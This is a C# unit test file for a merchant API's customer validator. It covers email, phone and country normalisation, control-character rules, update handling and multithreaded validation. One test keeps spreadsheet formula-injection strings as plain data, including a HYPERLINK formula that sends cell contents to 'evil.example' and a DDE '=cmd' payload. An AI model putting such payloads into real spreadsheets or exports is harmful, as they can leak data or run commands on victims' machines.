using System.Collections.Concurrent;
using MerchantApi.Customers;

namespace MerchantApi.Tests.Customers;

public sealed class CustomerValidatorTests
{
    private static CustomerField F(string name) => Enum.Parse<CustomerField>(name);

    private static string Api(CustomerField field) => CustomerSchema.Of(field).ApiName;

    private static CustomerDraft Draft(params (CustomerField Field, string? Value)[] values)
    {
        var draft = new CustomerDraft();
        foreach (var (field, value) in values)
            draft[field] = value;
        return draft;
    }

    private static CustomerDraft Valid() => Draft(
        (CustomerField.Email, "ann.lee@example.com"),
        (CustomerField.FirstName, "Ann"),
        (CustomerField.LastName, "Lee"),
        (CustomerField.Country, "FR"),
        (CustomerField.VerificationDocumentId, "P1234567"),
        (CustomerField.ResidenceAddress, "1 Rue de Rivoli, Paris"));

    private static CustomerDraft With(CustomerField field, string? value)
    {
        var draft = Valid();
        draft[field] = value;
        return draft;
    }

    private static ValidationProblem SingleProblem(CustomerDraft draft, CustomerWrite write = CustomerWrite.Create)
    {
        var result = CustomerValidator.Validate(draft, write);
        Assert.False(result.IsValid);
        Assert.Null(result.Draft);
        return Assert.Single(result.Problems);
    }

    private static CustomerDraft Accepted(CustomerDraft draft, CustomerWrite write = CustomerWrite.Create)
    {
        var result = CustomerValidator.Validate(draft, write);
        Assert.True(result.IsValid, string.Join(" | ", result.Problems.Select(p => p.Message)));
        Assert.Empty(result.Problems);
        return result.Draft!;
    }

    // ---- the row as a whole ------------------------------------------------------------------------------------

    [Fact]
    public void A_good_row_comes_back_as_a_new_trimmed_and_normalised_draft()
    {
        var input = Draft(
            (CustomerField.Email, "  Ann.Lee@Example.COM "), (CustomerField.FirstName, "\u00A0Ann "), (CustomerField.LastName, "Lee"),
            (CustomerField.Country, " fr "), (CustomerField.VerificationDocumentId, "P1234567"),
            (CustomerField.ResidenceAddress, "1 Rue de Rivoli"), (CustomerField.PhoneNumber, "+33 (6) 12-34.56.78"),
            (CustomerField.Comment, "   "), (CustomerField.ExternalId, ""), (CustomerField.Itn, null),
            (CustomerField.ReferralId, " r-1 "), (CustomerField.Status, "Active"), (CustomerField.Id, "abc"));

        var draft = Accepted(input);

        Assert.NotSame(input, draft);
        Assert.Equal("Ann.Lee@example.com", draft.Email); // only the domain is lower-cased
        Assert.Equal(("Ann", "Lee", "FR"), (draft[CustomerField.FirstName], draft[CustomerField.LastName], draft[CustomerField.Country]));
        Assert.Equal("+33612345678", draft[CustomerField.PhoneNumber]);
        Assert.Equal("r-1", draft[CustomerField.ReferralId]);
        Assert.Null(draft[CustomerField.Comment]); // blank optional → null
        Assert.Null(draft[CustomerField.ExternalId]);
        Assert.Null(draft[CustomerField.Itn]);
        Assert.Null(draft.Status);  // not part of a create
        Assert.Null(draft.Id);
        Assert.Equal("  Ann.Lee@Example.COM ", input.Email); // the input is left alone
        Assert.Equal("\u00A0Ann ", input[CustomerField.FirstName]);
    }

    [Fact]
    public void Missing_required_fields_are_all_reported_in_field_order()
    {
        var result = CustomerValidator.Validate(Draft((CustomerField.FirstName, "  "), (CustomerField.Comment, "x")), CustomerWrite.Create);

        Assert.False(result.IsValid);
        Assert.Null(result.Draft);
        Assert.All(result.Problems, p => Assert.Equal(CustomerErrorIds.MissingRequiredField, p.ErrorId));
        Assert.Equal(new[]
        {
            CustomerField.Email, CustomerField.FirstName, CustomerField.LastName, CustomerField.Country,
            CustomerField.VerificationDocumentId, CustomerField.ResidenceAddress,
        }, result.Problems.Select(p => p.Field));
        Assert.Equal("'firstName' is required but is missing or blank.", result.Problems[1].Message);
        Assert.Equal("  ", result.Problems[1].Value);
        Assert.Null(result.Problems[0].Value);
    }

    [Theory]
    [InlineData("\t")]
    [InlineData("\r\n")]
    [InlineData("\u00A0")]
    [InlineData("")]
    public void A_white_space_only_required_value_is_missing(string blank)
    {
        var problem = SingleProblem(With(CustomerField.ResidenceAddress, blank));
        Assert.Equal((CustomerErrorIds.MissingRequiredField, CustomerField.ResidenceAddress), (problem.ErrorId, problem.Field));
    }

    [Fact]
    public void Different_problems_of_one_row_all_come_back_in_field_order()
    {
        var draft = Valid();
        draft[CustomerField.Email] = "not-an-email";
        draft[CustomerField.PhoneNumber] = "12";          // no longer a problem: sent as given
        draft[CustomerField.LastName] = null;
        draft[CustomerField.ExternalId] = "crm\u00011";
        draft[CustomerField.Country] = "France";
        draft[CustomerField.Itn] = new string('9', 40);   // no longer a problem: no length limits

        var result = CustomerValidator.Validate(draft, CustomerWrite.Create);

        Assert.Equal(new[]
        {
            (CustomerField.Email, CustomerErrorIds.InvalidEmail), (CustomerField.LastName, CustomerErrorIds.MissingRequiredField),
            (CustomerField.ExternalId, CustomerErrorIds.ControlCharacterInField), (CustomerField.Country, CustomerErrorIds.InvalidCountry),
        }, result.Problems.Select(p => (p.Field, p.ErrorId)));
        // The row is not named: the cmdlet that knows it adds "Row N:".
        Assert.All(result.Problems, p => Assert.StartsWith($"'{Api(p.Field)}' ", p.Message));
        Assert.All(result.Problems, p => Assert.DoesNotContain("Row", p.Message, StringComparison.Ordinal));
    }

    // ---- bad values --------------------------------------------------------------------------------------------

    public static TheoryData<string, string, string> BadValues => new()
    {
        { "Email", "ann.example.com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@@example.com", CustomerErrorIds.InvalidEmail },
        { "Email", "@example.com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@", CustomerErrorIds.InvalidEmail },
        { "Email", "ann lee@example.com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@localhost", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@example.c", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@exa_mple.com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@example..com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@-example.com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@example-.com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@example.com.", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@.example.com", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@example.123", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@example.xn--", CustomerErrorIds.InvalidEmail },
        { "Email", "ann@exa\U0001F600mple.com", CustomerErrorIds.InvalidEmail },
        { "Email", "=HYPERLINK(\"x\")", CustomerErrorIds.InvalidEmail },
        { "Country", "XX", CustomerErrorIds.InvalidCountry },
        { "Country", "UK", CustomerErrorIds.InvalidCountry },
        { "Country", "FRA", CustomerErrorIds.InvalidCountry },
        { "Country", "F", CustomerErrorIds.InvalidCountry },
        { "Country", "Atlantis", CustomerErrorIds.InvalidCountry },
        { "Country", "=FR", CustomerErrorIds.InvalidCountry },
        { "FirstName", "Ann\nLee", CustomerErrorIds.ControlCharacterInField },
        { "LastName", "Lee\r", CustomerErrorIds.ControlCharacterInField },
        { "ResidenceAddress", "\u0085Main St", CustomerErrorIds.ControlCharacterInField },
        { "ExternalId", "x\u007F", CustomerErrorIds.ControlCharacterInField },
        { "Email", "ann@example.com\u0000", CustomerErrorIds.ControlCharacterInField },
        { "Comment", "bell\u0007", CustomerErrorIds.ControlCharacterInField },
        { "PhoneNumber", "+33\t612345678", CustomerErrorIds.ControlCharacterInField },
        { "Country", "F\u0000R", CustomerErrorIds.ControlCharacterInField },
    };

    [Theory]
    [MemberData(nameof(BadValues))]
    public void Rejects_bad_values_naming_field_and_value(string fieldName, string value, string errorId)
    {
        var field = F(fieldName);
        var problem = SingleProblem(With(field, value));

        Assert.Equal(errorId, problem.ErrorId);
        Assert.Equal(field, problem.Field);
        Assert.Equal(value, problem.Value);
        Assert.StartsWith($"'{Api(field)}' value '", problem.Message);
    }

    [Fact]
    public void The_problem_keeps_the_raw_value_and_the_message_shows_it_trimmed()
    {
        var problem = SingleProblem(With(CustomerField.Email, "  ann.example.com \u00A0"));

        Assert.Equal("  ann.example.com \u00A0", problem.Value);
        Assert.Equal("'email' value 'ann.example.com' is not a valid email address: it has no '@'.", problem.Message);
    }

    // ---- email -------------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("ann.lee@example.com", "ann.lee@example.com")]
    [InlineData("Ann+Tag@Sub.Example.CO.UK", "Ann+Tag@sub.example.co.uk")]
    [InlineData("jürgen@bücher.de", "jürgen@bücher.de")]
    [InlineData("JÜRGEN@BÜCHER.DE", "JÜRGEN@bücher.de")]
    [InlineData("用户@例子.广告", "用户@例子.广告")]
    [InlineData("ivan@пример.рф", "ivan@пример.рф")]
    [InlineData("x@XN--80AK6AA92E.com", "x@xn--80ak6aa92e.com")]
    [InlineData("x@xn--e1afmkfd.xn--p1ai", "x@xn--e1afmkfd.xn--p1ai")]
    [InlineData("o'brien@my-host1.example.com", "o'brien@my-host1.example.com")]
    [InlineData("=cmd@example.com", "=cmd@example.com")]
    [InlineData("+tag@example.com", "+tag@example.com")]
    [InlineData("-dash@example.com", "-dash@example.com")]
    [InlineData("a@1.example.com", "a@1.example.com")]
    public void Accepts_real_world_emails_and_lower_cases_only_the_domain(string email, string expected) =>
        Assert.Equal(expected, Accepted(With(CustomerField.Email, email)).Email);

    [Fact]
    public void An_email_has_no_length_limits_on_its_parts()
    {
        // Formerly 64 for the part before the '@' and 63 per domain label; the server judges lengths now.
        var email = new string('a', 300) + "@" + new string('B', 200) + "." + new string('c', 100) + ".com";

        Assert.Equal(new string('a', 300) + "@" + new string('b', 200) + "." + new string('c', 100) + ".com",
            Accepted(With(CustomerField.Email, email)).Email);
    }

    [Theory]
    [InlineData("ann.example.com", "it has no '@'")]
    [InlineData("a@b@example.com", "it has more than one '@'")]
    [InlineData("@example.com", "there is nothing before the '@'")]
    [InlineData("ann lee@example.com", "the part before the '@' contains a space")]
    [InlineData("ann@", "there is nothing after the '@'")]
    [InlineData("ann@example", "the domain has no '.'")]
    [InlineData("ann@example..com", "the domain has an empty part (two dots in a row, or a dot at the start or end)")]
    [InlineData("ann@-example.com", "the domain part '-example' starts or ends with '-'")]
    [InlineData("ann@example.c", "the top-level domain 'c' is not at least two letters")]
    [InlineData("ann@exa mple.com", "the domain contains ' ', which is not a letter, digit or hyphen")]
    [InlineData("ann@exa_mple.com", "the domain contains '_', which is not a letter, digit or hyphen")]
    public void An_invalid_email_message_says_what_is_wrong(string email, string reason) =>
        Assert.Equal($"'email' value '{email}' is not a valid email address: {reason}.",
            SingleProblem(With(CustomerField.Email, email)).Message);

    // ---- phone -------------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("+33 6 12 34 56 78", "+33612345678")]
    [InlineData("0044 (20) 7946-0958", "+442079460958")]
    [InlineData("+1.202.555.0143", "+12025550143")]
    [InlineData("+380991234567", "+380991234567")]
    [InlineData("+1234567", "+1234567")]
    [InlineData("+123456789012345", "+123456789012345")]
    [InlineData("  00 33 6 12 34 56 78 ", "+33612345678")]
    [InlineData("+33\u00A06\u00A012\u00A034\u00A056\u00A078", "+33612345678")]
    [InlineData("(+44) 20-7946-0958", "+442079460958")]
    public void Phone_numbers_lose_separators_and_00_becomes_plus_when_that_gives_E164(string phone, string expected) =>
        Assert.Equal(expected, Accepted(With(CustomerField.PhoneNumber, phone))[CustomerField.PhoneNumber]);

    [Theory]
    [InlineData("06 12 34 56 78", "06 12 34 56 78")]           // national format: the server judges it
    [InlineData("  call me  ", "call me")]                     // trimmed only
    [InlineData("+1 555 CALL NOW", "+1 555 CALL NOW")]
    [InlineData("+12345", "+12345")]                           // too short for E.164
    [InlineData("+1234567890123456", "+1234567890123456")]     // too long for E.164
    [InlineData("+0441234567", "+0441234567")]                 // no country code starts with 0
    [InlineData("0033 6 12", "0033 6 12")]                     // 00 → + would still be too short
    [InlineData("12", "12")]
    [InlineData("=1+2", "=1+2")]
    [InlineData("+33 6 12 34 56 78 ext. 9", "+33 6 12 34 56 78 ext. 9")]
    public void Other_phone_numbers_are_kept_as_given_and_accepted(string phone, string expected) =>
        Assert.Equal(expected, Accepted(With(CustomerField.PhoneNumber, phone))[CustomerField.PhoneNumber]);

    // ---- country -----------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("fr", "FR")]
    [InlineData("Gb", "GB")]
    [InlineData(" us ", "US")]
    [InlineData("UA", "UA")]
    public void Country_codes_are_accepted_in_any_case_and_upper_cased(string country, string expected) =>
        Assert.Equal(expected, Accepted(With(CustomerField.Country, country))[CustomerField.Country]);

    [Theory]
    [InlineData("France", "FR")]
    [InlineData("united kingdom", "GB")]
    [InlineData("FRA", "FR")]
    [InlineData("deu", "DE")]
    [InlineData("UK", "GB")]
    [InlineData("Côte d'Ivoire", "CI")]
    [InlineData("United States of America", "US")]
    public void A_country_name_or_alpha3_code_is_rejected_with_a_suggestion(string country, string code) =>
        Assert.Equal($"'country' value '{country}' is not an ISO 3166-1 alpha-2 code; did you mean '{code}'?",
            SingleProblem(With(CustomerField.Country, country)).Message);

    [Fact]
    public void An_unknown_country_code_is_rejected_without_a_guess() =>
        Assert.Equal("'country' value 'XX' is not an ISO 3166-1 alpha-2 code (two letters, such as 'FR', 'DE' or 'US').",
            SingleProblem(With(CustomerField.Country, "XX")).Message);

    // ---- control characters and free text ----------------------------------------------------------------------

    [Fact]
    public void Control_characters_in_free_text_are_shown_escaped_with_their_position()
    {
        var problem = SingleProblem(With(CustomerField.Comment, "Line one\nbell\u0007"));

        Assert.Equal(CustomerErrorIds.ControlCharacterInField, problem.ErrorId);
        Assert.Equal(CustomerField.Comment, problem.Field);
        Assert.Equal("Line one\nbell\u0007", problem.Value);
        // The line break is fine in a comment; the bell is not.
        Assert.Equal("'comment' value 'Line one\\nbell\\u0007' contains a control character ('\\u0007' at position 14); " +
                     "only line breaks and tabs may appear in it.", problem.Message);
    }

    [Fact]
    public void The_brief_example_message_for_a_bell_in_a_comment()
    {
        Assert.Equal("'comment' value 'ab\\u0007c' contains a control character ('\\u0007' at position 3); only line breaks and tabs may appear in it.",
            SingleProblem(With(CustomerField.Comment, "ab\u0007c")).Message);
    }

    [Fact]
    public void Control_characters_in_a_single_line_field_are_shown_with_the_single_line_rule()
    {
        var problem = SingleProblem(With(CustomerField.FirstName, "  Ann\nLee"));

        Assert.Equal("  Ann\nLee", problem.Value);
        Assert.Equal("'firstName' value 'Ann\\nLee' contains a control character ('\\n' at position 4); " +
                     "it is a single-line field, so line breaks, tabs and other non-printing characters are not allowed.", problem.Message);
    }

    public static TheoryData<string, string> SingleLineFieldsAndControls()
    {
        var data = new TheoryData<string, string>();
        var controls = new[] { "\n", "\r\n", "\r", "\t", "\u0000", "\u0007", "\u001B", "\u007F", "\u0085", "\u009F" };
        var fields = CustomerSchema.For(CustomerWrite.Create).Where(s => !s.FreeText).Select(s => s.ParameterName).ToList();
        for (var i = 0; i < controls.Length; i++)
        {
            foreach (var field in fields)
                data.Add(field, controls[i]);
        }
        return data;
    }

    [Theory]
    [MemberData(nameof(SingleLineFieldsAndControls))]
    public void A_single_line_field_rejects_every_control_character(string fieldName, string control)
    {
        var field = F(fieldName);
        var good = Valid()[field] ?? field switch
        {
            CustomerField.PhoneNumber => "+33612345678",
            _ => "value",
        };
        var bad = field == CustomerField.Email ? "ann" + control + "@example.com" : good[..1] + control + good[1..];

        var problem = SingleProblem(With(field, bad));

        Assert.Equal((CustomerErrorIds.ControlCharacterInField, field, bad), (problem.ErrorId, problem.Field, problem.Value));
        Assert.Contains("it is a single-line field", problem.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Id", "c\n1")]
    [InlineData("Id", "c1\t")]
    [InlineData("Status", "Active\r\n")]
    [InlineData("Email", "new@example.com\n")]
    public void An_update_rejects_control_characters_in_its_single_line_fields(string fieldName, string value)
    {
        var field = F(fieldName);
        var draft = Draft((CustomerField.Id, "c1"));
        draft[field] = value;

        var problem = SingleProblem(draft, CustomerWrite.Update);

        Assert.Equal((CustomerErrorIds.ControlCharacterInField, field), (problem.ErrorId, problem.Field));
    }

    public static TheoryData<string, string> MultiLineText => new()
    {
        { "Comment", "First line\nSecond line" },
        { "Comment", "Windows\r\nline breaks\r\nkept\r\n" },
        { "Comment", "Old Mac\rline break" },
        { "Comment", "col1\tcol2\tcol3" },
        { "Comment", "\n\nstarts with blank lines\n\n" },
        { "Comment", "\tindented\n\t\tmore\r\n" },
        { "Comment", "=SUM(A1:A9)\n+1\n-2\n@x" },
        { "ResidenceAddress", "1 Rue de Rivoli\n75001 Paris\nFrance" },
        { "ResidenceAddress", "Flat 2\r\n10 Downing St\r\nLondon\tSW1A 2AA" },
        { "ResidenceAddress", "Straße 1\n\n12345 Köln" },
    };

    [Theory]
    [MemberData(nameof(MultiLineText))]
    public void Free_text_keeps_line_breaks_and_tabs_byte_for_byte(string fieldName, string text)
    {
        var field = F(fieldName);

        Assert.Equal(text, Accepted(With(field, text))[field]);

        var update = Draft((CustomerField.Id, "c1"));
        update[field] = text;
        Assert.Equal(text, Accepted(update, CustomerWrite.Update)[field]);
    }

    [Fact]
    public void Free_text_is_trimmed_of_spaces_but_not_of_line_breaks_and_tabs()
    {
        Assert.Equal("\nnote\t", Accepted(With(CustomerField.Comment, "  \nnote\t  "))[CustomerField.Comment]);
        Assert.Equal("1 Main St\nTown", Accepted(With(CustomerField.ResidenceAddress, "\u00A01 Main St\nTown "))[CustomerField.ResidenceAddress]);
    }

    [Theory]
    [InlineData("Comment", "nul\u0000", 4)]
    [InlineData("Comment", "line\nbell\u0007", 10)]
    [InlineData("Comment", "del\u007F", 4)]
    [InlineData("Comment", "nel\u0085line", 4)]
    [InlineData("Comment", "esc\u001B[31m", 4)]
    [InlineData("ResidenceAddress", "1 Main St\u0000", 10)]
    [InlineData("ResidenceAddress", "1 Main St\r\n\u0085Town", 12)]
    [InlineData("ResidenceAddress", "\u0007\n", 1)]
    public void Free_text_rejects_other_control_characters(string fieldName, string text, int position)
    {
        var field = F(fieldName);
        var problem = SingleProblem(With(field, text));

        Assert.Equal((CustomerErrorIds.ControlCharacterInField, field, text), (problem.ErrorId, problem.Field, problem.Value));
        Assert.Contains($"at position {position}); only line breaks and tabs may appear in it.", problem.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Shown_values_escape_controls_and_are_cut_without_splitting_a_character()
    {
        Assert.Equal("a\\tb\\r\\u0000\\u009f", ValueText.Show("a\tb\r\0\u009F"));
        Assert.Equal(new string('x', 59) + "...", ValueText.Show(new string('x', 59) + "\U0001F600" + "tail"));
        Assert.Equal(new string('x', 60), ValueText.Show(new string('x', 60)));
        Assert.Equal("'a\\nb'", ValueText.Quote("a\nb"));
        Assert.Equal("''", ValueText.Quote(null));
    }

    // ---- lengths -----------------------------------------------------------------------------------------------

    public static TheoryData<string> CreateFieldsWithoutAFixedFormat() =>
        new(CustomerSchema.For(CustomerWrite.Create).Where(s => s.Format is FieldFormat.Text).Select(s => s.ParameterName));

    [Theory]
    [MemberData(nameof(CreateFieldsWithoutAFixedFormat))]
    public void Long_values_are_accepted_unchanged_and_left_to_the_server(string fieldName)
    {
        var field = F(fieldName);
        var value = string.Concat(Enumerable.Repeat("Long value ", 1_000)) + "end";

        Assert.Equal(value, Accepted(With(field, value))[field]);
    }

    [Fact]
    public void A_long_phone_number_and_a_long_id_are_accepted_too()
    {
        var phone = "+" + new string('7', 5_000);
        Assert.Equal(phone, Accepted(With(CustomerField.PhoneNumber, phone))[CustomerField.PhoneNumber]);

        var id = new string('f', 5_000);
        Assert.Equal(id, Accepted(Draft((CustomerField.Id, id)), CustomerWrite.Update).Id);
    }

    [Fact]
    public void A_huge_value_is_not_dumped_into_a_message()
    {
        var comment = new string('z', 10_000) + "\u0007";
        var problem = SingleProblem(With(CustomerField.Comment, comment));

        Assert.Equal(CustomerErrorIds.ControlCharacterInField, problem.ErrorId);
        Assert.Equal($"'comment' value '{new string('z', 60)}...' contains a control character ('\\u0007' at position 10001); " +
                     "only line breaks and tabs may appear in it.", problem.Message);
        Assert.Equal(comment, problem.Value);
    }

    // ---- values are data ---------------------------------------------------------------------------------------

    [Fact]
    public void Formula_like_values_are_data_kept_exactly_as_given()
    {
        var draft = Valid();
        draft[CustomerField.Comment] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        draft[CustomerField.FirstName] = "-Bob";
        draft[CustomerField.LastName] = "+Plus";
        draft[CustomerField.ExternalId] = "@SUM(A1:A9)";
        draft[CustomerField.ResidenceAddress] = "=1+1";
        draft[CustomerField.PhoneNumber] = "+33612345678";
        draft[CustomerField.Itn] = "-1";
        draft[CustomerField.ReferralId] = "=cmd|' /C calc'!A0";
        draft[CustomerField.VerificationDocumentId] = "@P1";
        draft[CustomerField.Email] = "=cmd@example.com";

        var result = Accepted(draft);

        Assert.Equal(draft[CustomerField.Comment], result[CustomerField.Comment]);
        Assert.Equal(
            new[] { "-Bob", "+Plus", "@SUM(A1:A9)", "=1+1", "+33612345678", "-1", "=cmd|' /C calc'!A0", "@P1", "=cmd@example.com" },
            new[]
            {
                CustomerField.FirstName, CustomerField.LastName, CustomerField.ExternalId, CustomerField.ResidenceAddress,
                CustomerField.PhoneNumber, CustomerField.Itn, CustomerField.ReferralId, CustomerField.VerificationDocumentId,
                CustomerField.Email,
            }.Select(f => result[f]));
    }

    // ---- update ------------------------------------------------------------------------------------------------

    [Fact]
    public void Update_checks_only_the_fields_present_and_requires_the_id()
    {
        var ok = Accepted(Draft((CustomerField.Id, " 3f1c "), (CustomerField.Email, "New@Example.com"), (CustomerField.FirstName, "  ")),
            CustomerWrite.Update);
        Assert.Equal(("3f1c", "New@example.com"), (ok.Id, ok.Email));
        Assert.Null(ok[CustomerField.FirstName]); // blank means "leave as is", not "required field missing"
        Assert.Null(ok[CustomerField.LastName]);

        var result = CustomerValidator.Validate(Draft((CustomerField.Country, "Germany")), CustomerWrite.Update);
        Assert.Equal(new[] { CustomerErrorIds.MissingRequiredField, CustomerErrorIds.InvalidCountry }, result.Problems.Select(p => p.ErrorId));
        Assert.Equal(CustomerField.Id, result.Problems[0].Field);
        Assert.Equal("'id' is required but is missing or blank.", result.Problems[0].Message);
        Assert.Equal("'country' value 'Germany' is not an ISO 3166-1 alpha-2 code; did you mean 'DE'?", result.Problems[1].Message);
    }

    [Fact]
    public void An_update_with_only_the_id_is_valid_and_sends_nothing_else()
    {
        var ok = Accepted(Draft((CustomerField.Id, "c1")), CustomerWrite.Update);
        Assert.Equal(new[] { (CustomerField.Id, "c1") }, ok.Values().Select(v => (v.Spec.Field, v.Value)));
    }

    [Fact]
    public void An_update_leaves_out_the_referral_id_and_a_create_leaves_out_id_and_status_even_when_invalid()
    {
        var update = Accepted(Draft((CustomerField.Id, "c1"), (CustomerField.ReferralId, "r\n1")), CustomerWrite.Update);
        Assert.Null(update[CustomerField.ReferralId]);

        var create = With(CustomerField.Status, "Closed");
        create[CustomerField.Id] = "bad\u0000id";
        var created = Accepted(create);
        Assert.Null(created.Id);
        Assert.Null(created.Status);
    }

    [Theory]
    [InlineData("active", "Active")]
    [InlineData("BLOCKED", "Blocked")]
    [InlineData(" Suspicious ", "Suspicious")]
    [InlineData("sUsPiCiOuS", "Suspicious")]
    public void Update_status_is_canonicalised(string status, string expected) =>
        Assert.Equal(expected, Accepted(Draft((CustomerField.Id, "1"), (CustomerField.Status, status)), CustomerWrite.Update).Status);

    [Theory]
    [InlineData("Closed")]
    [InlineData("Activ")]
    [InlineData("Active Blocked")]
    [InlineData("0")]
    public void Update_rejects_an_unknown_status(string status)
    {
        var problem = SingleProblem(Draft((CustomerField.Id, "1"), (CustomerField.Status, status)), CustomerWrite.Update);
        Assert.Equal((CustomerErrorIds.InvalidStatus, CustomerField.Status, status), (problem.ErrorId, problem.Field, problem.Value));
        Assert.Equal($"'status' value '{status}' is not a valid status; use Active, Blocked or Suspicious.", problem.Message);
    }

    [Fact]
    public void A_blank_status_on_an_update_is_absent()
    {
        var ok = Accepted(Draft((CustomerField.Id, "1"), (CustomerField.Status, "  ")), CustomerWrite.Update);
        Assert.Null(ok.Status);
    }

    [Fact]
    public void The_validation_result_guards_its_invariants()
    {
        Assert.Throws<ArgumentNullException>(() => CustomerValidator.Validate(null!, CustomerWrite.Create));
        Assert.Throws<ArgumentNullException>(() => CustomerValidationResult.Valid(null!));
        Assert.Throws<ArgumentException>(() => CustomerValidationResult.Invalid(Array.Empty<ValidationProblem>()));
    }

    // ---- many rows ---------------------------------------------------------------------------------------------

    private static CustomerDraft[] ThousandRows() => Enumerable.Range(0, 1000).Select(i => Draft(
        (CustomerField.Email, $" User{i}@Example.com"), (CustomerField.FirstName, "Ann"), (CustomerField.LastName, "Lee"),
        (CustomerField.Country, "fr"), (CustomerField.PhoneNumber, "+33 6 12 34 56 78"), (CustomerField.VerificationDocumentId, "P1"),
        (CustomerField.ResidenceAddress, "1 Main St\nTown"),
        // Every tenth row has a bell in its comment: invalid. The line break and tab of the others are fine.
        (CustomerField.Comment, i % 10 == 0 ? "bad\u0007" : "ok\r\n\tok"))).ToArray();

    [Fact]
    public void Validates_a_hundred_thousand_rows_and_rejects_exactly_the_bad_ones()
    {
        var drafts = ThousandRows();
        var valid = 0;
        for (var i = 0; i < 100_000; i++)
            valid += CustomerValidator.Validate(drafts[i % drafts.Length], CustomerWrite.Create).IsValid ? 1 : 0;

        // Speed is a benchmark's business (bench/); here only the verdicts count.
        Assert.Equal(90_000, valid);
    }

    [Fact]
    public void Validating_rows_on_many_threads_gives_each_row_its_own_result()
    {
        var drafts = ThousandRows();
        var wrong = new ConcurrentQueue<string>();
        var valid = 0;
        Parallel.For(0, 100_000, i =>
        {
            var n = i % drafts.Length;
            var result = CustomerValidator.Validate(drafts[n], CustomerWrite.Create);
            if (n % 10 == 0)
            {
                if (result.IsValid || result.Problems.Count != 1 || result.Problems[0].ErrorId != CustomerErrorIds.ControlCharacterInField)
                    wrong.Enqueue($"row {n}: expected one control-character problem");
                return;
            }
            Interlocked.Increment(ref valid);
            if (!result.IsValid || result.Draft!.Email != $"User{n}@example.com" || result.Draft[CustomerField.PhoneNumber] != "+33612345678"
                || result.Draft[CustomerField.Comment] != "ok\r\n\tok" || result.Draft[CustomerField.Country] != "FR")
            {
                wrong.Enqueue($"row {n}: wrong result");
            }
        });

        Assert.Empty(wrong);
        Assert.Equal(90_000, valid);
        Assert.Equal(" User5@Example.com", drafts[5].Email); // the inputs are never written to
    }
}
